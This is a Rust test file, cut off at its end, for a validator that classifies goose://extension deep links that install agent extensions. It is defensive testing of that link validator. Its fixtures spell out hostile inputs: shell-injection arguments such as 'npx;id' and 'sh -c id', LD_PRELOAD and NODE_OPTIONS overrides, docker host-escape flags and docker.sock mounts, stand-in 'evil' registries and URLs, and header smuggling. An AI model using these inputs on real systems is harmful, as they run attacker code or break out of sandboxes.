use super::{
    ErrorClass, Judged, Judgement, KnownSecret, Link, LinkTransport, MAX_LINK, MAX_NAME, MAX_VALUE,
    classify,
};
use percent_encoding::NON_ALPHANUMERIC;
use serde_json::json;

fn known(name: &str) -> KnownSecret {
    let owner = match name {
        "OPENAI_API_KEY" => Some("the provider openai".to_owned()),
        _ => None,
    };
    KnownSecret {
        is_set: matches!(name, "OPENAI_API_KEY" | "SET"),
        owner,
    }
}

/// `None` for a link to a recipe or a session.
fn judge(text: &str) -> Option<Judged> {
    match Link::parse(text) {
        Ok(Link::Extension(link)) => Some(classify(&link, &known, &|name| {
            matches!(name, "touch" | "Top")
        })),
        Ok(_) => None,
        Err(error) => Some(error.into()),
    }
}

/// `JUDGEMENT CLASS`, without their prefixes.
fn outcome(link: &str) -> String {
    let Some(judged) = judge(link) else {
        return "no extension".to_owned();
    };
    assert!(judged.judgement == Judgement::Allowed || !judged.reasons.is_empty());
    let is_usable = matches!(
        judged.judgement,
        Judgement::Allowed | Judgement::ConfirmRequired
    );
    assert_eq!(judged.config.is_some(), is_usable, "{link}");
    assert_eq!(judged.class.is_none(), is_usable, "{link}");
    let shown = crate::json::to_value(&judged).unwrap();
    let judgement = shown["judgement"].as_str().unwrap();
    let judgement = judgement.strip_prefix("EXTENSION_").unwrap();
    match shown["class"].as_str() {
        None => judgement.to_owned(),
        Some(class) => {
            let class = class.strip_prefix("DEEPLINK_").unwrap();
            format!("{judgement} {class}")
        }
    }
}

/// What a link to an extension with these parameters makes.
fn with(parameters: &str) -> String {
    outcome(&format!("goose://extension?name=x&{parameters}"))
}

const ALLOWED: &str = "ALLOWED";
const CONFIRM: &str = "UNTRUSTED_CONFIRM_REQUIRED";
const BLOCKED: &str = "BLOCKED SECURITY_BLOCKED";
const INVALID: &str = "INVALID_PAYLOAD INVALID_PAYLOAD";
const FAILED: &str = "INVALID_PAYLOAD PARSE_FAILED";
const ROUTE: &str = "INVALID_PAYLOAD UNSUPPORTED_ROUTE";
const SCHEME: &str = "INVALID_PAYLOAD INVALID_SCHEME";

#[test]
fn a_link_has_the_scheme_and_a_route() {
    for (link, expected) in [
        ("goose://extension?name=x&cmd=npx", ALLOWED),
        (" GooSe://extension?name=x&cmd=npx\n", ALLOWED),
        ("goose://extension/?name=x&cmd=npx#fragment", ALLOWED),
        ("goose://recipe?config=e30", "no extension"),
        ("goose://bot?config=e30", "no extension"),
        ("goose://sessions/abc-1_Z", "no extension"),
        ("", FAILED),
        ("goose", FAILED),
        ("/etc/passwd", FAILED),
        ("goose:extension?name=x&cmd=npx", FAILED),
        ("goose:/extension?name=x&cmd=npx", FAILED),
        ("goose\u{2236}//extension?name=x&cmd=npx", FAILED),
        ("g\u{43e}ose://extension?name=x&cmd=npx", FAILED),
        ("goose ://extension?name=x&cmd=npx", FAILED),
        ("goose://extension?name=x&cmd=n\npx", FAILED),
        ("goose://extension?name=x y&cmd=npx", FAILED),
        ("goose://extension?name=x\0&cmd=npx", FAILED),
        ("https://extension?name=x&cmd=npx", SCHEME),
        ("gooses://extension?name=x&cmd=npx", SCHEME),
        ("javascript:goose://extension?name=x&cmd=npx", SCHEME),
        ("goose://EXTENSION?name=x&cmd=npx", ROUTE),
        ("goose://extensions?name=x&cmd=npx", ROUTE),
        ("goose://extension/more?name=x&cmd=npx", ROUTE),
        ("goose://user@extension?name=x&cmd=npx", ROUTE),
        ("goose://extension:80?name=x&cmd=npx", ROUTE),
        ("goose://extension%00?name=x&cmd=npx", ROUTE),
        ("goose://../extension?name=x&cmd=npx", ROUTE),
        ("goose://?name=x&cmd=npx", ROUTE),
        ("goose://", ROUTE),
        ("goose://recipe", INVALID),
        ("goose://recipe?config=", INVALID),
        ("goose://recipe?config=a&config=b", INVALID),
        ("goose://sessions", INVALID),
        ("goose://sessions/", INVALID),
        ("goose://sessions/../x", INVALID),
        ("goose://sessions/a%2fb", INVALID),
    ] {
        assert_eq!(outcome(link), expected, "{link:?}");
    }
}

#[test]
fn the_parameters_of_an_extension_are_checked() {
    for (link, expected) in [
        ("goose://extension", INVALID),
        ("goose://extension?cmd=npx", INVALID),
        ("goose://extension?name=&cmd=npx", INVALID),
        ("goose://extension?name=%20&cmd=npx", INVALID),
        ("goose://extension?name=%2F..%2F&cmd=npx", INVALID),
        ("goose://extension?name=x", INVALID),
        ("goose://extension?name=x&name=y&cmd=npx", INVALID),
        ("goose://extension?name=Developer&cmd=npx", CONFIRM),
        ("goose://extension?name=todo&cmd=npx", CONFIRM),
        ("goose://extension?name=a%00b&cmd=npx", INVALID),
        ("goose://extension?name=a%1b%5B31m&cmd=npx", INVALID),
        ("goose://extension?name=%E2%80%AEevil&cmd=npx", BLOCKED),
        ("goose://extension?name=a%E2%80%8Fb&cmd=npx", BLOCKED),
        ("goose://extension?name=a%E2%80%8Bb&cmd=npx", BLOCKED),
        ("goose://extension?name=%ff&cmd=npx", FAILED),
        ("goose://extension?name=%zz&cmd=npx", FAILED),
        ("goose://extension?name=x%&cmd=npx", FAILED),
    ] {
        assert_eq!(outcome(link), expected, "{link}");
    }
    for (parameters, expected) in [
        ("cmd=npx&unknown=1&id=x&&", ALLOWED),
        ("cmd=npx&url=https://h", INVALID),
        ("cmd=npx&cmd=npx", INVALID),
        ("cmd=npx&header=A%3Db", INVALID),
        ("url=https://h&arg=a", INVALID),
        ("url=https://h&url=https://h", INVALID),
        ("cmd=npx&timeout=1", ALLOWED),
        ("cmd=npx&timeout=86400", ALLOWED),
        ("cmd=npx&timeout=86401", INVALID),
        ("cmd=npx&timeout=0", INVALID),
        ("cmd=npx&timeout=-1", INVALID),
        ("cmd=npx&timeout=%2B5", INVALID),
        ("cmd=npx&timeout=1.5", INVALID),
        ("cmd=npx&timeout=1e3", INVALID),
        ("cmd=npx&timeout=99999999999999999999", INVALID),
        ("cmd=npx&timeout=1&timeout=2", INVALID),
        ("cmd=npx&description=a%0Ab", ALLOWED),
        ("cmd=npx&description=a%00b", INVALID),
        ("cmd=npx&env=KEY", ALLOWED),
        ("cmd=npx&env=KEY%3Dvalue", ALLOWED),
        ("cmd=npx&env=", INVALID),
        ("cmd=npx&env=%3Dvalue", INVALID),
        ("cmd=npx&env=A%20B", INVALID),
        ("cmd=npx&env=A%0AB", INVALID),
        ("cmd=npx&env=PATH", BLOCKED),
        ("cmd=npx&env=PATH%3D/tmp", BLOCKED),
        ("cmd=npx&env=ld_preload%3D/x.so", BLOCKED),
        ("cmd=npx&env=NODE_OPTIONS", BLOCKED),
        ("cmd=npx&env=GIT_SSH_COMMAND", BLOCKED),
        ("cmd=uvx&env=UV_INDEX_URL", BLOCKED),
        ("cmd=npx&env=npm_config_registry", BLOCKED),
        ("cmd=npx&env=HTTPS_PROXY", BLOCKED),
        ("cmd=npx&env=GOOSE_SERVER__SECRET_KEY", BLOCKED),
        ("cmd=npx&env=SET", CONFIRM),
        ("cmd=npx&env=OPENAI_API_KEY", CONFIRM),
    ] {
        assert_eq!(with(parameters), expected, "{parameters}");
    }
}

#[test]
fn only_known_commands_run_and_only_as_packages() {
    for (parameters, expected) in [
        ("cmd=npx&arg=-y&arg=@scope/server", ALLOWED),
        ("cmd=npx.cmd&arg=-y&arg=server", ALLOWED),
        ("cmd=uvx&arg=mcp-server-time@1.0.0", ALLOWED),
        ("cmd=uvx&arg=--with&arg=mcp%3E%3D1,%3C2&arg=server", ALLOWED),
        ("cmd=jbang&arg=x@y", ALLOWED),
        ("cmd=i-ching-mcp-server", ALLOWED),
        ("cmd=gosling&arg=mcp&arg=memory", ALLOWED),
        ("cmd=goosed&arg=mcp&arg=developer", CONFIRM),
        ("cmd=gosling&arg=agent", BLOCKED),
        ("cmd=goosed", BLOCKED),
        ("cmd=NPX", BLOCKED),
        ("cmd=npx.exe", BLOCKED),
        ("cmd=npx.CMD", BLOCKED),
        ("cmd=npx.cmd.exe", BLOCKED),
        ("cmd=/tmp/npx", BLOCKED),
        ("cmd=./npx", BLOCKED),
        ("cmd=npx%20-c", BLOCKED),
        ("cmd=npx+", BLOCKED),
        ("cmd=%256epx", BLOCKED),
        ("cmd=bash&arg=-c&arg=id", BLOCKED),
        ("cmd=cmd.exe", BLOCKED),
        ("cmd=python3", BLOCKED),
        ("cmd=n%D1%80x", BLOCKED),
        ("cmd=npx;id", BLOCKED),
        ("cmd=npx&arg=-c&arg=id", BLOCKED),
        ("cmd=npx&arg=-y&arg=server&arg=-c&arg=id", BLOCKED),
        ("cmd=npx&arg=-c%3Did", BLOCKED),
        ("cmd=npx&arg=--call&arg=id", BLOCKED),
        ("cmd=npx&arg=--call%3Did", BLOCKED),
        ("cmd=npx&arg=--cal%3Did", BLOCKED),
        ("cmd=npx&arg=--ca&arg=id", BLOCKED),
        ("cmd=npx&arg=-call&arg=id", BLOCKED),
        ("cmd=npx&arg=---call&arg=id", BLOCKED),
        ("cmd=npx&arg=--CALL&arg=id", BLOCKED),
        ("cmd=npx&arg=-yc&arg=id", BLOCKED),
        ("cmd=npx.cmd&arg=-c&arg=id", BLOCKED),
        ("cmd=npx&arg=--node-options%3D--require%3D/x", BLOCKED),
        ("cmd=npx&arg=--script-shell%3D/x&arg=p", BLOCKED),
        ("cmd=npx&arg=p&arg=--config&arg=a.json", ALLOWED),
        ("cmd=npx&arg=p&arg=--cache-dir%3Da", ALLOWED),
        ("cmd=npx&arg=tsx&arg=-e&arg=1", BLOCKED),
        ("cmd=uvx&arg=python&arg=-c&arg=1", BLOCKED),
        ("cmd=uvx&arg=--from&arg=x&arg=python", BLOCKED),
        ("cmd=npx&arg=p&arg=%3Bid", BLOCKED),
        ("cmd=npx&arg=p&arg=%26%26id", BLOCKED),
        ("cmd=npx&arg=p&arg=%7Cid", BLOCKED),
        ("cmd=npx&arg=p&arg=%60id%60", BLOCKED),
        ("cmd=npx&arg=p&arg=%24(id)", BLOCKED),
        ("cmd=npx&arg=p&arg=a%0Aid", INVALID),
        ("cmd=npx.cmd&arg=p&arg=%25PATH%25", BLOCKED),
        ("cmd=npx.cmd&arg=p&arg=%5E", BLOCKED),
        ("cmd=npx&arg=--registry&arg=http://evil&arg=p", CONFIRM),
        ("cmd=npx&arg=github:user/repo", CONFIRM),
        ("cmd=npx&arg=https://evil/x.tgz", CONFIRM),
        ("cmd=npx&arg=../x", CONFIRM),
        ("cmd=uvx&arg=--from&arg=git%2Bhttps://h/r&arg=x", CONFIRM),
        ("cmd=uvx&arg=--index-url%3Dhttp://evil&arg=x", CONFIRM),
    ] {
        assert_eq!(with(parameters), expected, "{parameters}");
    }
}

/// A link to a command line, its words separated by spaces.
fn line(words: &str) -> String {
    let escaped =
        |word: &str| percent_encoding::utf8_percent_encode(word, NON_ALPHANUMERIC).to_string();
    let (cmd, args) = words.split_once(' ').unwrap_or((words, ""));
    let args = args.split(' ').filter(|arg| !arg.is_empty());
    let args: String = args.map(|arg| format!("&arg={}", escaped(arg))).collect();
    with(&format!("cmd={}{args}", escaped(cmd)))
}

#[test]
fn what_a_launcher_runs_is_judged() {
    for (words, expected) in [
        ("uvx mcp-server-time", ALLOWED),
        ("uvx mcp-server-time --local-timezone=Europe/Paris", ALLOWED),
        (
            "uvx -q --python 3.12 --refresh mcp-server-time@1.0",
            ALLOWED,
        ),
        ("uvx -p3.12 mcp-server-time", ALLOWED),
        (
            "uvx --from mcp-server-time[cli]==1.0 mcp-server-time",
            ALLOWED,
        ),
        ("uvx --from=Mcp_Server.Time mcp-server-time", ALLOWED),
        ("npx -y @modelcontextprotocol/server-memory", ALLOWED),
        ("npx --yes -- @modelcontextprotocol/server-memory", ALLOWED),
        ("npx -y --package=@scope/server@1.0.0 server", ALLOWED),
        (
            "npx --yes=true --loglevel silent --prefer-offline server",
            ALLOWED,
        ),
        // Programs that the packages need not contain.
        ("uvx --from six touch FILE", CONFIRM),
        ("uvx --from=six touch FILE", CONFIRM),
        ("uvx --from a --with touch touch FILE", CONFIRM),
        ("npx -p is-odd touch FILE", CONFIRM),
        ("npx -p is-odd ./touch FILE", CONFIRM),
        ("npx -y touch FILE", CONFIRM),
        ("npx -p touch touch FILE", CONFIRM),
        ("npx -p is-odd is-odd/../../x", CONFIRM),
        // Programs of this machine, which run where the package brings none of that name.
        ("uvx --from touch touch FILE", CONFIRM),
        ("uvx --from touch TOUCH FILE", CONFIRM),
        ("uvx --from top Top", CONFIRM),
        ("uvx --with touch --from touch@1.0 touch", CONFIRM),
        ("uvx touch FILE", CONFIRM),
        ("uvx touch@latest FILE", CONFIRM),
        ("uvx touch[extra]==1.0 FILE", CONFIRM),
        ("npx -y touch@1.0.0 FILE", CONFIRM),
        ("npx -y x@npm:touch FILE", CONFIRM),
        ("uvx mcp-touch FILE", ALLOWED),
        // Programs that run code from their arguments.
        ("uvx --from six sh -c id", BLOCKED),
        ("uvx --from six /bin/sh -c id", BLOCKED),
        ("uvx --from six env sh -c id", BLOCKED),
        ("uvx --from six busybox sh", BLOCKED),
        ("uvx --from six xargs touch", BLOCKED),
        ("uvx --from six BASH.EXE -c id", BLOCKED),
        ("uvx --from bash bash -c id", BLOCKED),
        ("uvx --with six python -c 1", BLOCKED),
        ("uvx python3.11 -c 1", BLOCKED),
        ("uvx python@3.11 -c 1", BLOCKED),
        ("uvx cpython@3.11 -c 1", BLOCKED),
        ("uvx pypy3 -c 1", BLOCKED),
        ("uvx pypy310 -c 1", BLOCKED),
        ("uvx cpython-3.12.1-linux-x86_64-gnu -c 1", BLOCKED),
        ("uvx --from python@3.11 python -c 1", BLOCKED),
        ("uvx pythonw -c 1", BLOCKED),
        ("uvx graalpy@24 -c 1", BLOCKED),
        ("uvx uv run x.py", BLOCKED),
        ("uvx IPython -c 1", BLOCKED),
        ("npx -p is-odd node -e 1", BLOCKED),
        ("npx -p x bash FILE", BLOCKED),
        ("npx node@20 -e 1", BLOCKED),
        ("npx node22 -e 1", BLOCKED),
        ("npx @scope/server --port 80", ALLOWED),
        ("npx concurrent-mcp sh", CONFIRM),
        ("uvx mcp-proxy npx server", CONFIRM),
        ("npx npm exec x", BLOCKED),
        ("npx bun@latest -e 1", BLOCKED),
        ("npx x@npm:node -e 1", BLOCKED),
        // What is not understood to its last word.
        ("npx --unknown node -e 1", BLOCKED),
        ("uvx --unknown -- python -c 1", BLOCKED),
        ("npx --unknown --node-options=--require=/x server", BLOCKED),
        ("npx --unknown server", CONFIRM),
        ("npx --@scope:registry=http://evil server", CONFIRM),
        ("npx --yes=evil server", CONFIRM),
        ("npx -yq server", CONFIRM),
        ("npx --no-yes evil server", CONFIRM),
        ("npx --- server", CONFIRM),
        ("npx - server", CONFIRM),
        ("npx -p", CONFIRM),
        ("npx --package= server", CONFIRM),
        ("npx -p -y server", CONFIRM),
        ("uvx --unknown server", CONFIRM),
        ("uvx -x server", CONFIRM),
        ("uvx --quiet=1 server", CONFIRM),
        ("uvx --fro six server", CONFIRM),
        ("uvx - server", CONFIRM),
        ("uvx --from", CONFIRM),
        // Another source, a file or a folder of this machine.
        ("uvx -ihttp://evil pkg", CONFIRM),
        ("uvx -qi http://evil pkg", CONFIRM),
        ("uvx -i=http://evil pkg", CONFIRM),
        ("uvx -fhttp://evil pkg", CONFIRM),
        ("uvx --python=/tmp/x pkg", CONFIRM),
        ("uvx -p/tmp/x pkg", CONFIRM),
        ("uvx -p 3.12/../../tmp/x pkg", CONFIRM),
        ("uvx --python . pkg", CONFIRM),
        ("uvx -p 3 pkg", ALLOWED),
        ("uvx -p 3.12.10 pkg", ALLOWED),
        ("uvx -p 3. pkg", CONFIRM),
        ("uvx -p 3..12 pkg", CONFIRM),
        ("uvx -p 3.12.1.1 pkg", CONFIRM),
        ("uvx -p 3.256 pkg", CONFIRM),
        ("uvx -p 3.12t pkg", CONFIRM),
        ("uvx -p 3.+12 pkg", CONFIRM),
        ("uvx -p python3.12 pkg", CONFIRM),
        ("uvx -p cpython@3.12 pkg", CONFIRM),
        ("uvx -p >=3.12 pkg", CONFIRM),
        // A file or a folder of the working directory that is taken for a version.
        ("uvx six@sub", CONFIRM),
        ("uvx six@1.", CONFIRM),
        ("uvx --from six@sub six", CONFIRM),
        ("uvx --from six@1.0,<x six", CONFIRM),
        ("uvx --with six@sub pkg", CONFIRM),
        ("uvx --with six@1.0 pkg", CONFIRM),
        ("uvx x.tgz", CONFIRM),
        ("npx -y y.tgz", CONFIRM),
        ("npx -y x@y.TGZ", CONFIRM),
        ("npx -p x@y.tar x", CONFIRM),
        ("npx -p x@y,=.tgz x", CONFIRM),
        ("npx -p x@1,@s/b x", CONFIRM),
        ("npx -y x@@sub/dir", CONFIRM),
        ("npx -y git@ho_st.x:repo", CONFIRM),
        ("npx -y x@~1.2.3", ALLOWED),
        ("uvx --env-file 3 pkg", CONFIRM),
        ("uvx --env-file .env pkg", CONFIRM),
        ("uvx --directory /tmp pkg", CONFIRM),
        ("uvx --overrides http://evil/r.txt pkg", CONFIRM),
        ("uvx --with-editable . pkg", CONFIRM),
        ("uvx --cache-dir /tmp/x pkg", CONFIRM),
        ("npx --cache /tmp/x pkg", CONFIRM),
        // Programs that are no launchers.
        ("jbang org.example:server:1.0.0", ALLOWED),
        (
            "jbang jdbc@quarkiverse/quarkus-mcp-servers --url x",
            ALLOWED,
        ),
        ("jbang -c id", CONFIRM),
        ("jbang --code id", CONFIRM),
        ("jbang https://evil/x.java", CONFIRM),
        ("jbang x.java", CONFIRM),
        ("jbang a:b", CONFIRM),
        ("jbang a:b:-c", CONFIRM),
        ("jbang a@b/../c", CONFIRM),
        ("jbang .a@b/c", CONFIRM),
        ("jbang c:x.java", CONFIRM),
        ("jbang run x@y", CONFIRM),
        ("jbang", CONFIRM),
        ("cu stdio", ALLOWED),
        ("cu terminal", CONFIRM),
        ("cu", CONFIRM),
        ("i-ching-mcp-server --x", CONFIRM),
        ("gosling mcp memory", ALLOWED),
        ("gosling mcp developer", CONFIRM),
        ("goosed mcp computercontroller", CONFIRM),
        ("gosling mcp memory --http 80", CONFIRM),
        ("gosling mcp", CONFIRM),
    ] {
        assert_eq!(line(words), expected, "{words}");
    }
    let reasons = |link: &str| {
        judge(&format!("goose://extension?name=x&{link}"))
            .unwrap()
            .reasons
            .concat()
    };
    let both = reasons("cmd=uvx&arg=--from&arg=six&arg=touch&arg=FILE");
    assert!(both.contains("\"touch\"") && both.contains("six"), "{both}");
    let shell = reasons("cmd=gosling&arg=mcp&arg=developer");
    assert!(shell.contains("shell"), "{shell}");
}

#[test]
fn a_secret_that_has_a_value_is_given_after_a_confirmation() {
    for (parameters, shown) in [
        ("url=https://h.example/mcp&env=SET", "h.example"),
        (
            "url=https://h.example/mcp&header=X-A%3D%24%7BSET%7D",
            "h.example",
        ),
        (
            "url=https://h.example/mcp&env=SET&header=X-A%3D%24SET",
            "h.example",
        ),
        ("cmd=npx&arg=server&env=SET", "npx"),
    ] {
        let judged = judge(&format!("goose://extension?name=x&{parameters}")).unwrap();
        assert_eq!(judged.judgement, Judgement::ConfirmRequired, "{parameters}");
        let reason = judged.reasons.concat();
        assert!(reason.contains("SET") && reason.contains(shown), "{reason}");
    }
}

#[test]
fn docker_gets_no_power_over_this_machine() {
    for (args, expected) in [
        ("run -i --rm -e KEY=value --env A= mcp/time", ALLOWED),
        (
            "run -it --name x -p 80:80 image --privileged -v /:/x",
            ALLOWED,
        ),
        ("run -i -v /data --volume=/other image", ALLOWED),
        ("run -i -v a image", ALLOWED),
        ("run -i -v a/b image", ALLOWED),
        ("run -i -v //data image", ALLOWED),
        ("run -i -v /ab:/data image", CONFIRM),
        ("run -i -v data:/data image", CONFIRM),
        ("run -i -v /srv:/srv image", CONFIRM),
        ("run -i -v C:\\Users:/data image", CONFIRM),
        ("run -i -v data:/data:ro image", CONFIRM),
        ("run -i --volume=data:/data image", CONFIRM),
        ("run -i -v c:/data image", CONFIRM),
        ("run -i -v /srv:/data image", CONFIRM),
        ("run -i --mount type=image,dst=/data image", CONFIRM),
        ("run -i --rm -e KEY mcp/time", CONFIRM),
        ("run -i --rm --env=KEY mcp/time", CONFIRM),
        ("run -ieKEY mcp/time", CONFIRM),
        ("run -i -e OTHER* mcp/time", CONFIRM),
        ("container run -i image", ALLOWED),
        ("run -i touch", ALLOWED),
        ("mcp gateway run", ALLOWED),
        ("run --privileged=false image", ALLOWED),
        (
            "run -it --init --read-only --cap-drop ALL --user 1 -w/x image",
            ALLOWED,
        ),
        (
            "run -i --network none --memory=1g --pull missing image",
            ALLOWED,
        ),
        ("run -i --mount type=volume,dst=/data image", ALLOWED),
        (
            "run -i --mount type=volume,src=data,dst=/data,readonly image",
            CONFIRM,
        ),
        ("run -i --mount source=data,dst=/data image", CONFIRM),
        ("run --pid container:x image", CONFIRM),
        ("run --network container:x image", CONFIRM),
        ("run --net=other image", CONFIRM),
        ("run --ipc=container:x image", CONFIRM),
        ("run --runtime other image", CONFIRM),
        ("run --restart always image", CONFIRM),
        ("run -d image", CONFIRM),
        ("run --gpus all image", CONFIRM),
        ("run --log-driver=syslog image", CONFIRM),
        ("run --env-file .env image", CONFIRM),
        ("run --label-file /etc/passwd image", CONFIRM),
        ("run --cidfile /tmp/x image", CONFIRM),
        ("run --add-host h:127.0.0.1 image", CONFIRM),
        ("run --volume-driver other -v data:/data image", CONFIRM),
        ("run --unknown image", CONFIRM),
        ("run --privilege image", CONFIRM),
        (
            "run --mount type=volume,dst=/h,volume-opt=device=/ image",
            BLOCKED,
        ),
        (
            "run --mount type=volume,dst=/h,\"volume-opt=o=bind\" image",
            BLOCKED,
        ),
        (
            "run --mount type=volume,dst=/h,volume-driver=other image",
            BLOCKED,
        ),
        ("run --mount type=cluster,src=x,dst=/h image", CONFIRM),
        (
            "run --mount type=bind,dst=/h,source=/x,unknown image",
            CONFIRM,
        ),
        ("mcp gateway run --catalog http://evil", CONFIRM),
        ("run --privileged=f image", BLOCKED),
        ("run --device-cgroup-rule x image", BLOCKED),
        ("run -v /home/ada/work:/work image", CONFIRM),
        ("run --mount type=bind,src=/srv,dst=/srv image", CONFIRM),
        ("run --network=host image", CONFIRM),
        ("run --net host image", CONFIRM),
        ("run --privileged image", BLOCKED),
        ("run --privileged=true image", BLOCKED),
        ("run -i --rm --privileged image", BLOCKED),
        ("run -v /:/host image", BLOCKED),
        ("run -v=/:/host image", BLOCKED),
        ("run -v/:/host image", BLOCKED),
        ("run -itv /:/host image", BLOCKED),
        ("run --volume /:/host image", BLOCKED),
        ("run --volume=//./:/host image", BLOCKED),
        ("run -v /home/..:/host image", BLOCKED),
        ("run -v C:\\:/host image", BLOCKED),
        ("run -v \\\\.\\pipe\\docker_engine:/host image", BLOCKED),
        ("run -v /etc:/host image", BLOCKED),
        ("run -v /var/run/docker.sock:/s image", BLOCKED),
        ("run -v /home/ada/.docker/run/docker.sock:/s image", BLOCKED),
        ("run --mount type=bind,source=/,target=/host image", BLOCKED),
        (
            "run --mount \"type=bind\",\"src=/\",dst=/host image",
            BLOCKED,
        ),
        ("run --pid=host image", BLOCKED),
        ("run --pid host image", BLOCKED),
        ("run --cap-add SYS_ADMIN image", BLOCKED),
        ("run --device=/dev/sda image", BLOCKED),
        ("run --security-opt seccomp=unconfined image", BLOCKED),
        ("run --volumes-from other image", BLOCKED),
        ("-H tcp://evil run image", BLOCKED),
        ("--host=tcp://evil run image", BLOCKED),
        ("exec x sh", BLOCKED),
        ("compose up", BLOCKED),
    ] {
        let escaped = |arg: &str| {
            let escaped = arg
                .replace('%', "%25")
                .replace('&', "%26")
                .replace('=', "%3D");
            format!("&arg={}", escaped.replace('"', "%22").replace('+', "%2B"))
        };
        let args: String = args.split(' ').map(escaped).collect();
        assert_eq!(with(&format!("cmd=docker{args}")), expected, "{args}");
    }
    assert_eq!(with("cmd=docker"), BLOCKED);
    let variable = |name: &str| {
        with(&format!(
            "cmd=docker&arg=run&arg=-e&arg=KEY&arg=i&env={name}"
        ))
    };
    assert_eq!(variable("KEY"), ALLOWED);
    assert_eq!(variable("OTHER"), CONFIRM);
}

#[test]
fn only_servers_of_the_web_are_reached() {
    for (parameters, expected) in [
        ("url=https://h.example/mcp", ALLOWED),
        ("url=https://h.example:8443/mcp?a%3D1", ALLOWED),
        ("url=http://127.0.0.1:80/mcp", ALLOWED),
        ("url=http://localhost/mcp", ALLOWED),
        ("url=http://%5B::1%5D:1/mcp", ALLOWED),
        ("url=https://h&header=Authorization%3DBearer%20x", ALLOWED),
        ("url=https://h&header=X-Key%3Da%3Db", ALLOWED),
        ("url=http://h.example/mcp", CONFIRM),
        ("url=http://127.0.0.1.evil.example/", CONFIRM),
        ("url=http://localhost.evil.example/", CONFIRM),
        ("url=javascript:alert(1)", BLOCKED),
        ("url=file:///etc/passwd", BLOCKED),
        ("url=ftp://h", BLOCKED),
        ("url=HTTPS://h", BLOCKED),
        ("url=//h", BLOCKED),
        ("url=https:h", BLOCKED),
        ("url=https://", BLOCKED),
        ("url=https:///path", BLOCKED),
        ("url=http://user:pw@h/", BLOCKED),
        ("url=https://h@evil.example/", BLOCKED),
        ("url=https://h%5C@evil.example/", BLOCKED),
        ("url=https://h%5Cevil.example/", BLOCKED),
        ("url=http:%5C%5Ch/", BLOCKED),
        ("url=https://h%20h/", BLOCKED),
        ("url=https://h/a%20b", BLOCKED),
        ("url=https://h/a%5Cb", BLOCKED),
        ("url=https://%5Bh%5D/", BLOCKED),
        ("url=https://h%0A/", INVALID),
        ("url=https://h:99999/", BLOCKED),
        ("url=https://h:0/", BLOCKED),
        ("url=https://h:/", BLOCKED),
        ("url=https://%D0%B5xample.com/", BLOCKED),
        ("url=https://%5B::1/", BLOCKED),
        ("url=https://h%2525/", BLOCKED),
        (
            "url=https://h&header=Authorization%3Dx%0D%0AX:%20y",
            INVALID,
        ),
        ("url=https://h&header=A%20B%3Dc", INVALID),
        ("url=https://h&header=%3Dc", INVALID),
        ("url=https://h&header=A%3D%24%7BTOKEN%3DN%7D", INVALID),
        ("url=https://h&header=A%3D%24%7B%7D", INVALID),
        ("url=https://h&header=A%3D%24%7BA%24%7BB%7D", INVALID),
        ("url=https://h&header=Host%3Devil", BLOCKED),
        ("url=https://h&header=transfer-encoding%3Dchunked", BLOCKED),
        ("url=https://h&header=A%3D1&header=a%3D2", BLOCKED),
        ("url=https://h&header=A%3D%24%7BOPENAI_API_KEY%7D", CONFIRM),
    ] {
        assert_eq!(with(parameters), expected, "{parameters}");
    }
}

#[test]
fn sizes_are_limited() {
    let long = "a".repeat(1 << 20);
    assert_eq!(with(&format!("cmd=npx&arg={long}")), FAILED);
    let long = "a".repeat(MAX_VALUE + 1);
    for name in ["arg", "description", "env", "header", long.as_str()] {
        assert_eq!(with(&format!("cmd=npx&{name}={long}")), INVALID);
    }
    let many = "&arg=a".repeat(101);
    assert_eq!(with(&format!("cmd=npx{many}")), INVALID);
    let many = "&x=a".repeat(1_000);
    assert_eq!(with(&format!("cmd=npx{many}")), INVALID);
    let fits = "a".repeat(MAX_VALUE);
    assert_eq!(with(&format!("cmd=npx&description={fits}")), ALLOWED);
    assert_eq!(with(&format!("cmd=npx{}", "&arg=a".repeat(100))), ALLOWED);
    assert_eq!(with(&format!("cmd=npx{}", "&x=a".repeat(398))), ALLOWED);
    assert_eq!(with(&format!("cmd=npx{}", "&x=a".repeat(399))), INVALID);
    let named = |length: usize| {
        outcome(&format!(
            "goose://extension?name={}&cmd=npx",
            "a".repeat(length)
        ))
    };
    assert_eq!(
        (named(MAX_NAME).as_str(), named(MAX_NAME + 1).as_str()),
        (ALLOWED, INVALID)
    );
    let recipe = |length: usize| {
        let begin = "goose://recipe?config=";
        Link::parse(&format!("{begin}{}", "a".repeat(length - begin.len())))
    };
    assert!(matches!(recipe(MAX_LINK), Ok(Link::Recipe { .. })));
    let error = recipe(MAX_LINK + 1).unwrap_err();
    assert_eq!(error.to_string(), "the link is longer than 640 KiB");
    let error = Link::parse(&format!("goose://extension?name=x&cmd=npx&arg={fits}a")).unwrap_err();
    assert_eq!(error.to_string(), "`arg` is longer than 8 KiB");
}

#[test]
fn the_configuration_has_what_the_link_says_and_no_value_of_a_variable() {
    let link = "goose://extension?name=My%20Server+2&description=d&timeout=30&cmd=npx&arg=-y&arg=a%20b\
                &env=TOKEN%3Dplanted&env=SET&env=TOKEN&installation_notes=n";
    let Ok(Link::Extension(read)) = Link::parse(link) else {
        panic!("it is a link to an extension");
    };
    assert_eq!(read.ignored_values, ["TOKEN"]);
    let judged = judge(link).unwrap();
    assert!(!format!("{judged:?}").contains("planted"));
    assert_eq!(judged.needs_configuration, ["TOKEN"]);
    let config = json!({
        "type": "stdio", "name": "My Server 2", "description": "d", "cmd": "npx", "args": ["-y", "a b"],
        "envs": {}, "env_keys": ["SET", "TOKEN"], "timeout": 30, "bundled": null, "available_tools": [],
        "installation_notes": "n",
    });
    assert_eq!(judged.config.unwrap().to_value(), config);
    let ignored = |reason: &String| reason.contains("TOKEN");
    assert!(judged.reasons.iter().any(ignored), "{:?}", judged.reasons);
}

#[test]
fn headers_say_which_secrets_they_need() {
    let link = "goose://extension?name=x&url=https://h&header=Authorization%3DBearer%20%24%7BTOKEN%7D\
                &header=X-Empty%3D&header=X%3D1";
    let judged = judge(link).unwrap();
    assert_eq!(judged.needs_configuration, ["TOKEN", "X-Empty"]);
    let config = judged.config.unwrap().to_value();
    assert_eq!(config["env_keys"], json!(["TOKEN"]));
    let headers = json!({"Authorization": "Bearer ${TOKEN}", "X-Empty": "", "X": "1"});
    assert_eq!(config["headers"], headers);
}

#[test]
fn the_plus_of_a_recipe_stays() {
    let link = Link::parse("goose://recipe?config=a+b/c%3D&user=x+y");
    let expected = Link::Recipe {
        config: "a+b/c=".to_owned(),
        parameters: vec![("user".to_owned(), "x y".to_owned())],
    };
    assert_eq!(link, Ok(expected));
}

#[test]
fn any_text_has_one_class() {
